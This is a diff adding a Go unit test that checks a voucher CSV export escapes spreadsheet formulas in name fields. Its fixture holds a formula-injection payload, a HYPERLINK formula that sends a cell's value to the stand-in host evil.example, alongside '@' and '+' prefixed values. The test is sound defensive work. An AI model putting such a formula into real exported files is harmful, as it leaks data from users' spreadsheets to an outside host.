@@ -27,6 +27,27 @@ func TestVoucherCSVIsForGermanSpreadsheets(t *testing.T) {
 	}
 }
 
+// Names that a spreadsheet would read as a formula are written as text.
+func TestVoucherCSVNeutralisesFormulas(t *testing.T) {
+	vs := []domain.Voucher{{Code: "08999001-K7QM-4XD2-P9H1", ValueCents: 30000, AGS: "08999001",
+		Municipality: `=HYPERLINK("https://evil.example/?d="&A2;"Gutschein einlösen")`, ProviderName: "@SUM(1+1)"}}
+	b, err := contracts.VoucherCSV(vs, "+Basis")
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := string(b)
+	for _, want := range []string{`"'=HYPERLINK(""https://evil.example/?d=""&A2;""Gutschein einlösen"")"`, ";'@SUM(1+1);", ";'+Basis;", ";300,00;"} {
+		if !strings.Contains(s, want) {
+			t.Errorf("csv lacks %s:\n%s", want, s)
+		}
+	}
+	for _, cell := range strings.FieldsFunc(strings.SplitN(s, "\r\n", 2)[1], func(r rune) bool { return r == ';' || r == '\r' || r == '\n' }) {
+		if strings.ContainsAny(cell[:1], "=+@") {
+			t.Errorf("live formula cell %q", cell)
+		}
+	}
+}
+
 // BenchmarkApproval approves an application of a district for 5 people end
 // to end: vouchers, contract and voucher list PDFs, CSV, file store,
 // mailbox message, e-mail notices, audit log, in one transaction.
